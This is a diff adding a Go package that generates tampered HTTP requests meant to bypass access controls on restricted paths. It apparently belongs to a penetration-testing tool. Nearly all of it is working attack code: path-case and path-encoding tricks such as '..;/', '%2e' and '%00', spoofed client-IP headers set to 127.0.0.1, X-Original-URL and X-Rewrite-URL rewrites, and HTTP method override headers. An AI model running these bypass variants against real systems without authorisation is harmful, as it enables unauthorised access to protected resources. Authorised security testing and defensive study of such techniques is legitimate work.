@@ -0,0 +1,248 @@
+// Package tamper implements the request tampering techniques of http
+// requests used to bypass the access controls of restricted paths.
+package tamper
+
+import (
+	"bytes"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"net/http"
+	"net/url"
+	"strings"
+
+	"github.com/pkg/errors"
+)
+
+// Variant is a tampered request with the name of the mutation
+type Variant struct {
+	Name    string
+	Request *http.Request
+}
+
+// technique returns the tampered variants of a request
+type technique func(req *http.Request, body []byte) []*Variant
+
+// Techniques are the tampering techniques keyed by name
+var Techniques = map[string]technique{
+	"path-case":       pathCase,
+	"path-encoding":   pathEncoding,
+	"header-spoofing": headerSpoofing,
+	"method":          methodTampering,
+}
+
+// SpoofedIP is the address sent in the spoofed client ip headers
+const SpoofedIP = "127.0.0.1"
+
+// ipHeaders are the headers used by proxies to forward the client address
+var ipHeaders = []string{
+	"X-Forwarded-For",
+	"X-Forwarded",
+	"X-Real-IP",
+	"X-Client-IP",
+	"X-Remote-IP",
+	"X-Remote-Addr",
+	"X-Originating-IP",
+	"X-Host",
+	"X-Custom-IP-Authorization",
+	"X-ProxyUser-Ip",
+	"True-Client-IP",
+	"Cluster-Client-IP",
+}
+
+// rewriteHeaders are the headers rewriting the path of the request on proxies
+var rewriteHeaders = []string{"X-Original-URL", "X-Rewrite-URL"}
+
+// methods are the verbs sent in place of the method of the request
+var methods = []string{"GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "CONNECT"}
+
+// overrideHeaders are the headers overriding the method of a POST request
+var overrideHeaders = []string{"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"}
+
+// Compile validates the tampering techniques
+func Compile(techniques []string) error {
+	for _, name := range techniques {
+		if _, ok := Techniques[name]; !ok {
+			return errors.Errorf("invalid tampering technique %s (it should be path-case, path-encoding, header-spoofing or method)", name)
+		}
+	}
+	return nil
+}
+
+// Execute calls the callback with the variants of the request tampered with
+// each technique. The body is passed separately as the request body can
+// only be read once. The execution stops if the callback returns false.
+func Execute(techniques []string, req *http.Request, body []byte, callback func(*Variant) bool) error {
+	for _, name := range techniques {
+		technique, ok := Techniques[name]
+		if !ok {
+			return errors.Errorf("invalid tampering technique %s", name)
+		}
+		for _, variant := range technique(req, body) {
+			if !callback(variant) {
+				return nil
+			}
+		}
+	}
+	return nil
+}
+
+// pathCase changes the case of the path, which is ignored by some servers
+// but not by the access rules in front of them.
+func pathCase(req *http.Request, body []byte) []*Variant {
+	path := req.URL.Path
+	segments := strings.Split(path, "/")
+	last := len(segments) - 1
+	for last > 0 && segments[last] == "" {
+		last--
+	}
+	if segments[last] == "" {
+		return nil
+	}
+
+	var paths []string
+	upperLast := append([]string{}, segments...)
+	upperLast[last] = strings.ToUpper(upperLast[last])
+	paths = append(paths, strings.Join(upperLast, "/"))
+
+	title := append([]string{}, segments...)
+	title[last] = strings.ToUpper(title[last][:1]) + title[last][1:]
+	paths = append(paths, strings.Join(title, "/"))
+	paths = append(paths, strings.ToUpper(path))
+
+	var variants []*Variant
+	seen := map[string]struct{}{path: {}}
+	for _, value := range paths {
+		if _, ok := seen[value]; ok {
+			continue
+		}
+		seen[value] = struct{}{}
+		request := cloneRequest(req, body)
+		request.URL.Path = value
+		request.URL.RawPath = ""
+		variants = append(variants, &Variant{Name: "path-case:" + value, Request: request})
+	}
+	return variants
+}
+
+// pathEncoding sends the path with redundant separators and encodings
+// that are normalized by the servers after the access rules are applied.
+func pathEncoding(req *http.Request, body []byte) []*Variant {
+	path := req.URL.EscapedPath()
+	if path == "" {
+		path = "/"
+	}
+	trimmed := strings.TrimSuffix(path, "/")
+	dir, file := trimmed[:strings.LastIndex(trimmed, "/")+1], trimmed[strings.LastIndex(trimmed, "/")+1:]
+
+	paths := []string{
+		"/" + path,
+		"/." + path,
+		"/%2e" + path,
+		"/;" + path,
+	}
+	if file != "" {
+		paths = append(paths,
+			trimmed+"/",
+			trimmed+"/.",
+			trimmed+"//",
+			trimmed+"..;/",
+			trimmed+";/",
+			trimmed+"%20",
+			trimmed+"%09",
+			trimmed+"%00",
+			dir+"%2e/"+file,
+			dir+"./"+file,
+			dir+fmt.Sprintf("%%%02X", file[0])+file[1:],
+		)
+	}
+
+	var variants []*Variant
+	seen := map[string]struct{}{path: {}}
+	for _, value := range paths {
+		if _, ok := seen[value]; ok {
+			continue
+		}
+		seen[value] = struct{}{}
+		request := cloneRequest(req, body)
+		if !setRawPath(request.URL, value) {
+			continue
+		}
+		variants = append(variants, &Variant{Name: "path-encoding:" + value, Request: request})
+	}
+	return variants
+}
+
+// headerSpoofing sends the request with the headers used by proxies to
+// forward the address of the client and the original path of the request.
+func headerSpoofing(req *http.Request, body []byte) []*Variant {
+	var variants []*Variant
+	for _, header := range ipHeaders {
+		request := cloneRequest(req, body)
+		request.Header.Set(header, SpoofedIP)
+		variants = append(variants, &Variant{Name: "header-spoofing:" + header, Request: request})
+	}
+	request := cloneRequest(req, body)
+	request.Header.Set("Forwarded", "for="+SpoofedIP)
+	variants = append(variants, &Variant{Name: "header-spoofing:Forwarded", Request: request})
+
+	for _, header := range rewriteHeaders {
+		request := cloneRequest(req, body)
+		request.Header.Set(header, req.URL.RequestURI())
+		request.URL.Path = "/"
+		request.URL.RawPath = ""
+		request.URL.RawQuery = ""
+		variants = append(variants, &Variant{Name: "header-spoofing:" + header, Request: request})
+	}
+	return variants
+}
+
+// methodTampering sends the request with the other verbs and with the
+// headers overriding the method of a POST request.
+func methodTampering(req *http.Request, body []byte) []*Variant {
+	var variants []*Variant
+	for _, method := range methods {
+		if method == req.Method {
+			continue
+		}
+		request := cloneRequest(req, body)
+		request.Method = method
+		variants = append(variants, &Variant{Name: "method:" + method, Request: request})
+	}
+	if lower := strings.ToLower(req.Method); lower != req.Method {
+		request := cloneRequest(req, body)
+		request.Method = lower
+		variants = append(variants, &Variant{Name: "method:" + lower, Request: request})
+	}
+	for _, header := range overrideHeaders {
+		request := cloneRequest(req, body)
+		request.Method = "POST"
+		request.Header.Set(header, req.Method)
+		variants = append(variants, &Variant{Name: "method:" + header, Request: request})
+	}
+	return variants
+}
+
+// setRawPath sets the escaped path of the URL sent as is in the request line
+func setRawPath(u *url.URL, value string) bool {
+	path, err := url.PathUnescape(value)
+	if err != nil {
+		return false
+	}
+	u.Path = path
+	u.RawPath = value
+	return true
+}
+
+func cloneRequest(req *http.Request, body []byte) *http.Request {
+	request := req.Clone(req.Context())
+	request.Body = ioutil.NopCloser(bytes.NewReader(body))
+	request.GetBody = func() (io.ReadCloser, error) {
+		return ioutil.NopCloser(bytes.NewReader(body)), nil
+	}
+	request.ContentLength = int64(len(body))
+	if len(body) == 0 {
+		request.Body = http.NoBody
+	}
+	return request
+}